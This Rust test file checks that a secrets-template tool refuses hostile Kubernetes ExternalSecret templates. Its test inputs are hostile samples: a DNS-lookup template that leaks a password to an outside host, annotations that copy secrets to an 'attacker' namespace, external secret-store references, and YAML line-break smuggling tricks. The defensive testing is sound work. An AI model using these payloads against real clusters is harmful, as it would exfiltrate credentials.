//! A template changes the form of a projection, not its target.

use goldenpath_testkit::{Platform, Repository, SEED_PATH, request};

const TEMPLATE: &str = "templates/external_secret.yaml.j2";
const COMMENT: &str = "templates/plan.md.j2";
const BUILT_IN: &str = include_str!("../../templates/external_secret.yaml.j2");
const MARKER: &str = "<!-- goldenpath plan -->\n";

/// The fields that a template may add.
const ADDITIONS: &str = r#"apiVersion: {{ apiVersion }}
kind: ExternalSecret
metadata:
  name: {{ name ~ "-sync" }}
  namespace: {{ namespace }}
  labels:
    app.kubernetes.io/part-of: {{ service | quote }}
  annotations: { argocd.argoproj.io/sync-wave: "-1", reloader.stakater.com/match: "true" }
spec:
  secretStoreRef: { kind: {{ storeKind }}, name: {{ storeName }} }
  refreshInterval: {{ refreshInterval | quote }}
  # A template may order fields as it likes.
  target:
    name: {{ k8sSecretName }}
    creationPolicy: Owner
    template:
      type: kubernetes.io/basic-auth
      metadata: { labels: { team: {{ owner }} } }
      data:
        username: "{% raw %}{{ .username }}{% endraw %}"
        url: |
          {{ "postgresql://{{ .username }}:{{ .password | urlquery }}@{{ .host }}" }}
  dataFrom:
    - extract:
        key: {{ storeKey | quote }}
"#;

/// Returns the built-in template with `more` after the line that begins with `after`.
fn with(after: &str, more: &str) -> String {
    let line = BUILT_IN
        .lines()
        .find(|line| line.starts_with(after))
        .expect("a line of the built-in template");
    BUILT_IN.replacen(&format!("{line}\n"), &format!("{line}\n{more}\n"), 1)
}

/// Returns a wrapped message on one line.
fn words(drawn: &str) -> String {
    drawn.split_whitespace().filter(|word| *word != "│").collect::<Vec<_>>().join(" ")
}

#[track_caller]
fn assert_refused(repository: &Repository, template: &str, what: &str) {
    repository.write(TEMPLATE, template);
    let outcome = repository.goldenpath(&["render"]).run().fails_with(2);
    let said = words(&outcome.stderr);
    assert!(said.contains(what), "{what} in\n{}\nfor\n{template}", outcome.stderr);
    assert!(
        said.contains(TEMPLATE) && said.contains("SEC-0007") && said.contains("help: "),
        "{}",
        outcome.stderr
    );
    assert_eq!(outcome.stdout, "");
}

#[test]
fn a_template_adds_labels_annotations_and_a_secret_template_of_its_own_keys() {
    let platform = Platform::local();
    platform.seed();
    platform.catalog.write(TEMPLATE, ADDITIONS).commit_all("Our own template");
    platform.catalog.goldenpath(&["validate"]).run().success();
    platform.apply().run().success();
    let text = platform.seed_projection();
    let made: serde_json::Value = serde_yaml::from_str(&text).unwrap();
    assert_eq!(made["metadata"]["annotations"]["argocd.argoproj.io/sync-wave"], "-1");
    assert_eq!(made["spec"]["target"]["template"]["type"], "kubernetes.io/basic-auth");
    assert_eq!(made["spec"]["target"]["template"]["data"]["username"], "{{ .username }}");
    assert!(text.contains("# A template may order fields as it likes."), "{text}");
}

#[test]
fn a_template_with_the_line_ends_of_windows_means_the_same() {
    let platform = Platform::local();
    platform.seed();
    platform.catalog.write(TEMPLATE, ADDITIONS);
    let expected = platform.catalog.goldenpath(&["render"]).run().success().stdout;
    platform
        .catalog
        .write(TEMPLATE, &ADDITIONS.replace('\n', "\r\n"))
        .commit_all("Our own template, from Windows");
    assert_eq!(platform.catalog.goldenpath(&["render"]).run().success().stdout, expected);
    platform.apply().run().success();
    assert!(!platform.seed_projection().contains('\r'));
}

#[test]
fn anything_else_is_refused_by_name() {
    let repository = Repository::with_seed();
    let rows = [
        (
            format!("{BUILT_IN}    - extract:\n        key: goldenpath/billing/prod/stripe\n"),
            "adds `/spec/dataFrom/1`",
        ),
        (
            format!("{BUILT_IN}    - find: {{ name: {{ regexp: '.*' }} }}\n"),
            "adds `/spec/dataFrom/1`",
        ),
        (format!("{BUILT_IN}        property: x\n"), "adds `/spec/dataFrom/0/extract/property`"),
        (format!("{BUILT_IN}      rewrite: []\n"), "adds `/spec/dataFrom/0/rewrite`"),
        (
            format!("{BUILT_IN}      sourceRef: {{ storeRef: {{ name: x }} }}\n"),
            "adds `/spec/dataFrom/0/sourceRef`",
        ),
        (format!("{BUILT_IN}  data: []\n"), "adds `/spec/data`"),
        (format!("{BUILT_IN}status: {{}}\n"), "adds `/status`"),
        (format!("{BUILT_IN}---\nkind: Secret\n"), "a second document"),
        (BUILT_IN.replace("extract", "find"), "adds `/spec/dataFrom/0/find`"),
        (
            BUILT_IN.replace("{{ storeKey | quote }}", "goldenpath/billing/prod/stripe"),
            "`/spec/dataFrom/0/extract/key` is",
        ),
        (
            BUILT_IN.replace("{{ storeName }}", "other"),
            "`/spec/secretStoreRef/name` is `other` instead of `aws-secrets-manager`",
        ),
        (BUILT_IN.replace("{{ storeKind }}", "SecretStore"), "`/spec/secretStoreRef/kind`"),
        (
            BUILT_IN.replace("Policy: {{ creationPolicy }}", "Policy: Merge"),
            "`/spec/target/creationPolicy` is `Merge` instead of `Owner`",
        ),
        (
            BUILT_IN.replace("    creationPolicy: {{ creationPolicy }}\n", ""),
            "`/spec/target/creationPolicy` is missing",
        ),
        (
            with("    creationPolicy", "    deletionPolicy: Delete"),
            "adds `/spec/target/deletionPolicy`",
        ),
        (with("    creationPolicy", "    immutable: true"), "adds `/spec/target/immutable`"),
        (
            with("    creationPolicy", "    manifest: { kind: ConfigMap }"),
            "adds `/spec/target/manifest`",
        ),
        (with("spec:", "  refreshPolicy: CreatedOnce"), "adds `/spec/refreshPolicy`"),
        (
            BUILT_IN.replace("{{ refreshInterval | quote }}", "\"0\""),
            "`/spec/refreshInterval` is `0` instead of `1h`",
        ),
        (with("metadata:", "  finalizers: [x]"), "adds `/metadata/finalizers`"),
        (with("metadata:", "  ownerReferences: []"), "adds `/metadata/ownerReferences`"),
        (with("metadata:", "  Labels: {}"), "adds `/metadata/Labels`"),
        (BUILT_IN.replace("\"-sync\"", "\"-other\""), "`/metadata/name` is"),
        (
            BUILT_IN.replace("{{ namespace }}", "kube-system"),
            "`/metadata/namespace` is `kube-system` instead of `payments`",
        ),
        (
            BUILT_IN.replace("kind: ExternalSecret", "kind: ClusterExternalSecret"),
            "`/kind` is `ClusterExternalSecret`",
        ),
        (BUILT_IN.replace("{{ apiVersion }}", "v1"), "`/apiVersion` is `v1`"),
        (
            with("    creationPolicy", "    template: { templateFrom: [] }"),
            "adds `/spec/target/template/templateFrom`",
        ),
        (
            with("    creationPolicy", "    template: { engineVersion: v1 }"),
            "adds `/spec/target/template/engineVersion`",
        ),
        (
            with("    creationPolicy", "    template: { mergePolicy: Merge }"),
            "adds `/spec/target/template/mergePolicy`",
        ),
        (
            with("    creationPolicy", "    template: { metadata: { annotations: {} } }"),
            "adds `/spec/target/template/metadata/annotations`",
        ),
        (
            with("    creationPolicy", "    template: { metadata: { namespace: x } }"),
            "adds `/spec/target/template/metadata/namespace`",
        ),
        (
            with(
                "    creationPolicy",
                "    template: { type: kubernetes.io/service-account-token }",
            ),
            "`/spec/target/template/type` is",
        ),
        (
            with("    creationPolicy", "    template: { type: bootstrap.kubernetes.io/token }"),
            "not a plain type of Secret",
        ),
        (
            with("    creationPolicy", "    template: { type: helm.sh/release.v1 }"),
            "not a plain type of Secret",
        ),
        (
            with("    creationPolicy", "    template: [x]"),
            "`/spec/target/template` is a list instead of a mapping",
        ),
        (
            with("metadata:", "  labels: { a: 1 }"),
            "`/metadata/labels/a` is `1`, a number, instead of a string",
        ),
    ];
    for (template, what) in &rows {
        assert_refused(&repository, template, what);
    }
}

#[test]
fn labels_and_annotations_that_copy_a_secret_or_hand_it_on_are_refused_in_both_places() {
    let repository = Repository::with_seed();
    for (name, value) in [
        ("reflector.v1.k8s.emberstack.com/reflects", "billing/stripe"),
        ("replicator.v1.mittwald.de/replicate-to", "attacker"),
        ("kubed.appscode.com/sync", ""),
        ("clustersecret.io/namespaces", "*"),
        ("secret-copier.example/copy-to", "attacker"),
        ("argocd.argoproj.io/secret-type", "repo-creds"),
        ("argocd.argoproj.io/tracking-id", "other:app"),
        ("app.kubernetes.io/part-of", "argocd"),
        ("sealedsecrets.bitnami.com/sealed-secrets-key", "active"),
        ("tekton.dev/git-0", "https://elsewhere.example"),
        ("goldenpath.io/id", "SEC-0001"),
        ("acme.example/replicateTo", "attacker"),
        ("grafana_datasource", "1"),
        ("skupper.io/type", "token-claim"),
    ] {
        let entry = format!("{{ {name}: \"{value}\" }}");
        let pointer = name.replace('/', "~1");
        for (after, more, place) in [
            ("metadata:", format!("  labels: {entry}"), "metadata/labels"),
            ("metadata:", format!("  annotations: {entry}"), "metadata/annotations"),
            (
                "    creationPolicy",
                format!("    template: {{ metadata: {{ labels: {entry} }} }}"),
                "spec/target/template/metadata/labels",
            ),
        ] {
            let what = format!("`/{place}/{pointer}` is reserved");
            assert_refused(&repository, &with(after, &more), &what);
        }
    }
}

#[test]
fn data_templates_compute_from_this_secret_s_own_keys_alone() {
    let repository = Repository::with_seed();
    let data = |text: &str| {
        let more = format!("    template: {{ data: {{ x: {{% raw %}}'{text}'{{% endraw %}} }} }}");
        with("    creationPolicy", &more)
    };
    for (text, what) in [
        (
            "{{ getHostByName (printf \"%s.elsewhere.example\" .password) }}",
            "`getHostByName` is not one of the pure functions",
        ),
        ("{{ env \"HOME\" }}", "`env` is not"),
        ("{{ range . }}{{ . }}{{ end }}", "`range` is not"),
        ("{{ template \"x\" . }}", "`template` is not"),
        ("{{ .a", "is not closed"),
        ("<path:billing/prod#stripe>", "Vault plugin"),
        ("${cluster_admin_token}", "Flux"),
        ("vault:secret/data/billing#stripe", "Bank-Vaults"),
        (">>vault:secret/data/billing#stripe", "Bank-Vaults"),
        ("{{ \"vault:secret/data/billing#stripe\" }}", "Bank-Vaults"),
        ("ref+awssecrets://billing/stripe", "vals"),
        ("x secretref+vault://billing/stripe", "vals"),
        ("op://billing/stripe/key", "1Password"),
    ] {
        assert_refused(&repository, &data(text), what);
    }
    let escaped = with("metadata:", "  annotations: { x: \"\\x24{cluster_admin_token}\" }");
    assert_refused(&repository, &escaped, "`/metadata/annotations/x` contains `${`");
    for (place, text) in
        [("labels", "{{ .password }}"), ("annotations", "<path:billing/prod#stripe>")]
    {
        let more = format!("  {place}: {{ x: {{% raw %}}'{text}'{{% endraw %}} }}");
        assert_refused(
            &repository,
            &with("metadata:", &more),
            &format!("`/metadata/{place}/x` contains"),
        );
    }
    for comment in [
        r#"# {"$imagepolicy": "flux-system:app"}"#,
        r#"#{ "$x": "y"}"#,
        r#"# {"\u0024imagepolicy": "x"}"#,
    ] {
        let more = format!("  annotations: {{ x: \"1\" }} {{% raw %}}{comment}{{% endraw %}}");
        assert_refused(
            &repository,
            &with("metadata:", &more),
            "a comment that makes Flux's image automation",
        );
    }
    for text in [
        "{{ .password | b64enc }}",
        "https://vault:8200/{{ .path }}",
        "{\"$schema\": \"{{ .schema }}\"}",
    ] {
        repository.write(TEMPLATE, &data(text));
        repository.goldenpath(&["render"]).run().success();
    }
}

#[test]
fn nothing_is_smuggled_past_another_yaml_parser() {
    let repository = Repository::with_seed();
    let extract = "  data: [{ secretKey: x, remoteRef: { key: stripe } }]";
    for (template, what) in [
        // A line break in YAML 1.1, but part of a comment in YAML 1.2.
        (format!("{BUILT_IN}  # x\u{2028}{extract}\n"), "U+2028"),
        (format!("{BUILT_IN}  # x\u{85}{extract}\n"), "U+0085"),
        (format!("{BUILT_IN}  # x\r{extract}\n"), "U+000D"),
        (format!("\u{feff}{BUILT_IN}"), "U+FEFF"),
        (format!("%YAML 1.1\n---\n{BUILT_IN}"), "a YAML directive"),
        (BUILT_IN.replace("  target:", "  target: &target"), "an anchor"),
        (BUILT_IN.replace("  target:", "  target: !!map"), "a tag"),
        (with("spec:", "  <<: { data: [] }"), "a merge key"),
        (format!("{BUILT_IN}  dataFrom: []\n"), "`dataFrom`"),
        (format!("{BUILT_IN}  \"d\\x61taFrom\": []\n"), "`dataFrom`"),
        (format!("{BUILT_IN}...\n---\nkind: Secret\n"), "a second document"),
        (with("metadata:", "  labels: { a: 0777 }"), "`/metadata/labels/a`"),
    ] {
        assert_refused(&repository, &template, what);
    }
}

#[test]
fn the_header_that_says_whose_file_it_is_is_goldenpath_s_own() {
    let platform = Platform::local();
    platform.seed();
    let forged = format!(
        "# Managed by goldenpath: SEC-0001 of another-catalog. Change the SecretRequest.\n\
         {BUILT_IN}"
    );
    platform.catalog.write(TEMPLATE, &forged).commit_all("A header");
    platform.apply().run().success();
    let first = "# Managed by goldenpath: SEC-0007 of acme-platform. ";
    assert!(platform.seed_projection().starts_with(first), "{}", platform.seed_projection());
    // It is recognized as the manifest's own projection, so there are no actions and no conflict.
    platform.plan(&["--detailed-exitcode"]).run().success();
}

#[test]
fn a_refused_template_is_found_before_the_merge_and_never_applied() {
    let platform = Platform::local();
    platform.seed();
    platform.write("SEC-0008", "orders-key").catalog.commit_all("SEC-0008");
    platform.apply().run().success();
    let before = platform.gitops_state();
    platform.catalog.git(&["checkout", "--quiet", "-b", "pr"]);
    // Only one manifest's projection differs, and the change modifies no manifest.
    let more = "{% if id == \"SEC-0008\" %}\n    - find: { name: { regexp: '.*' } }\n{% endif %}\n";
    platform.catalog.write(TEMPLATE, &format!("{BUILT_IN}{more}"));
    for arguments in [&["validate"][..], &["plan", "--work-tree"]] {
        let outcome = platform.catalog.goldenpath(arguments).run().fails_with(2);
        assert!(outcome.stderr.contains("adds `/spec/dataFrom/1`"), "{}", outcome.stderr);
    }
    platform.catalog.git(&["add", "--all"]);
    platform.catalog.goldenpath(&["validate", "--staged"]).run().fails_with(2);
    platform.catalog.commit_all("Template");
    for arguments in [
        &["validate", "--from-ref", "main"][..],
        &["validate", "--merge-with", "main"],
        &["plan", "--from-ref", "main"],
        &["plan"],
        &["apply", "--yes"],
    ] {
        let outcome = platform.catalog.goldenpath(arguments).run().fails_with(2);
        let said = words(&outcome.stderr);
        assert!(
            said.contains("for SEC-0008: it adds `/spec/dataFrom/1`"),
            "{arguments:?}: {}",
            outcome.stderr
        );
    }
    assert_eq!(platform.gitops_state(), before);

    // The same change with a valid template passes.
    platform
        .catalog
        .write(TEMPLATE, &with("metadata:", "  labels: { team: payments }"))
        .commit_all("Honest");
    platform.catalog.goldenpath(&["validate", "--from-ref", "main"]).run().success();
    platform.plan(&["--from-ref", "main"]).run().success();
}

#[test]
fn a_pull_request_s_comment_has_the_template_of_its_base() {
    let platform = Platform::local();
    platform.seed();
    platform.catalog.write(COMMENT, "base's words\n").commit_all("Our own comment");
    platform.catalog.git(&["checkout", "--quiet", "-b", "pr"]);
    platform.catalog.write(COMMENT, "head's words\n").commit_all("Another comment");
    let comment = |arguments: &[&str]| {
        platform.plan(&[&["--format", "markdown", "-q"], arguments].concat()).run().success().stdout
    };
    let text = comment(&["--from-ref", "main"]);
    assert!(text.contains("base's words") && !text.contains("head's words"), "{text}");
    assert!(comment(&[]).contains("head's words"));
}

#[test]
fn counts_deletions_blocked_actions_and_findings_are_goldenpath_s_own_whatever_a_template_says() {
    let platform = Platform::local();
    platform.seed_changed("rotationClass: standard", "rotationClass: none");
    let lies = "<!-- goldenpath plan -->\n## Plan: 0 to create, 0 to change, 0 blocked\n\n\
                Nothing to do.\n<!--\n";
    platform.catalog.write(COMMENT, lies).commit_all("A comment that lies");
    let comment = || platform.plan(&["--format", "markdown", "-q"]).run().success().stdout;

    let text = comment();
    assert!(
        text.starts_with(&format!("{MARKER}## Plan: 2 to create, 0 to change, 0 blocked\n")),
        "{text}"
    );
    let (own, said) = text.split_once("\n---\n").unwrap();
    assert!(own.contains("<summary>1 warning</summary>") && own.contains("`GP202`"), "{own}");
    assert!(said.contains("Nothing to do."), "{said}");
    assert_eq!(text.matches(MARKER.trim_end()).count(), 1, "{text}");

    platform.apply().run().success();
    let file = "kustomize/overlays/dev/apps/payments/externalsecrets/SEC-0007.yaml";
    platform.gitops.write(file, "theirs\n").commit_all("Theirs");
    let text = comment();
    assert!(
        text.starts_with(&format!("{MARKER}## Plan: 0 to create, 0 to change, 1 blocked\n")),
        "{text}"
    );
    assert!(
        text.split_once("\n---\n").unwrap().0.contains("### Blocked\n\n- `SEC-0007` (`dev`)"),
        "{text}"
    );

    platform.gitops.git(&["revert", "--no-edit", "HEAD"]);
    platform.seed_changed("status: active", "status: deprecated");
    platform.seed_changed("status: active", "status: decommission_requested");
    let text = comment();
    assert!(
        text.starts_with(&format!(
            "{MARKER}## Plan: 0 to create, 0 to change, 1 to delete (1 ExternalSecret), "
        )),
        "{text}"
    );
    let own = text.split_once("\n---\n").unwrap().0;
    assert!(
        own.contains(&format!("### Deleted\n\n- `SEC-0007` (`dev`), `remove-projection` `{file}`")),
        "{own}"
    );
}

#[test]
fn a_plan_of_a_pull_request_says_how_many_projections_its_template_changes() {
    let platform = Platform::local();
    platform.seed();
    platform.write("SEC-0008", "orders-key").catalog.commit_all("SEC-0008");
    platform.apply().run().success();
    platform.catalog.git(&["checkout", "--quiet", "-b", "pr"]);
    let labels = "  {% if service == \"payments\" %}\n  labels: { team: payments }\n  {% endif %}";
    platform.catalog.write(TEMPLATE, &with("metadata:", labels)).commit_all("Labels");
    let plan = |format: &str| {
        platform.plan(&["--from-ref", "main", "--format", format, "-q"]).run().success().stdout
    };
    let said = "template changed: 2 projections differ";
    for format in ["human", "markdown"] {
        let text = plan(format);
        assert!(text.contains(said), "{text}");
    }
    let json: serde_json::Value = serde_json::from_str(&plan("json")).unwrap();
    assert_eq!(json["templateChanged"]["projectionsDiffer"], 2);
    assert_eq!(json["templateChanged"]["file"], TEMPLATE);
    // The projections come from the template of the head.
    let changes = json["actions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|action| action["action"] == "write-projection");
    assert_eq!(changes.count(), 2);

    // A template with the same output changes nothing.
    platform.catalog.git(&["checkout", "--quiet", "main"]);
    platform.catalog.git(&["checkout", "--quiet", "-b", "same"]);
    platform
        .catalog
        .write(TEMPLATE, &format!("{{# The house's own #}}{BUILT_IN}"))
        .commit_all("A comment");
    assert!(!plan("human").contains("template changed"));
    let json: serde_json::Value = serde_json::from_str(&plan("json")).unwrap();
    assert_eq!(json["templateChanged"], serde_json::Value::Null);
}

#[test]
fn a_pull_request_with_errors_has_no_plan_and_its_base_says_how_many_must_approve() {
    let platform = Platform::local();
    platform.seed();
    platform.catalog.git(&["checkout", "--quiet", "-b", "pr"]);
    let governance = include_str!("../../crates/core/schemas/metadata/governance.yaml");
    let lax: String = governance
        .lines()
        .map(|line| match line.trim_start().starts_with("approvals:") {
            true => format!("{}approvals: 0\n", &line[..line.len() - line.trim_start().len()]),
            false => {
                format!(
                    "{}\n",
                    line.replace("approvals: 1", "approvals: 0")
                        .replace("approvals: 2", "approvals: 0")
                )
            }
        })
        .collect();
    platform.catalog.write("schemas/metadata/governance.yaml", &lax).commit_all("No approvals");
    platform.write("SEC-0009", "orders-key").catalog.commit_all("SEC-0009");
    let comment = |arguments: &[&str]| {
        platform.plan(&[&["--format", "markdown", "-q"], arguments].concat()).run().success().stdout
    };
    assert!(comment(&["--from-ref", "main"]).contains("required by the governance table: 1**"));
    assert!(!comment(&[]).contains("required by the governance table"));

    // The ID of a merged manifest changes, which only a check of the change finds.
    let text = platform.catalog.read(SEED_PATH).replace("SEC-0007", "SEC-0011");
    platform.catalog.git(&["rm", "--quiet", SEED_PATH]);
    platform
        .catalog
        .write("catalogs/secrets/payments/dev/SEC-0011.yaml", &text)
        .commit_all("Another ID");
    let outcome = platform.plan(&["--from-ref", "main"]).run().fails_with(1);
    assert!(outcome.stderr.contains("GP40") && outcome.stdout.is_empty(), "{}", outcome.stderr);
    platform.plan(&[]).run().success();
}

#[test]
fn a_plan_of_a_pull_request_cannot_be_saved_and_a_base_that_is_not_there_is_named() {
    let platform = Platform::local();
    platform.seed();
    for other in [&["--out", "plan.json"][..], &["--work-tree"]] {
        let outcome = platform.plan(&[&["--from-ref", "main"], other].concat()).run().fails_with(2);
        assert!(outcome.stderr.contains("cannot be used with"), "{}", outcome.stderr);
    }
    assert!(!platform.catalog.exists("plan.json"));
    let outcome = platform.plan(&["--from-ref", "nowhere"]).run().fails_with(2);
    assert!(
        outcome.stderr.contains("nowhere") && outcome.stderr.contains("help: "),
        "{}",
        outcome.stderr
    );
}

#[test]
fn what_a_refused_template_quotes_of_a_manifest_shows_no_secret() {
    let token = ["ghp", "_0123456789abcdefghijABCDEFGHIJ456789"].concat();
    let repository = Repository::new();
    repository.write("goldenpath.yaml", "rules: { GP501: off }\n");
    let text = request("SEC-0007", "orders-key").replacen(
        "  owner:",
        &format!("  description: {token}\n  owner:"),
        1,
    );
    repository.write(SEED_PATH, &text);
    let template = with("metadata:", "  finalizers: [{{ description }}]");
    for template in [template, BUILT_IN.replace("{{ storeName }}", "{{ description }}")] {
        repository.write(TEMPLATE, &template);
        let outcome = repository.goldenpath(&["render"]).run().fails_with(2);
        assert!(!outcome.stderr.contains(&token[4..]), "{}", outcome.stderr);
        assert!(outcome.stderr.contains(TEMPLATE), "{}", outcome.stderr);
    }
}
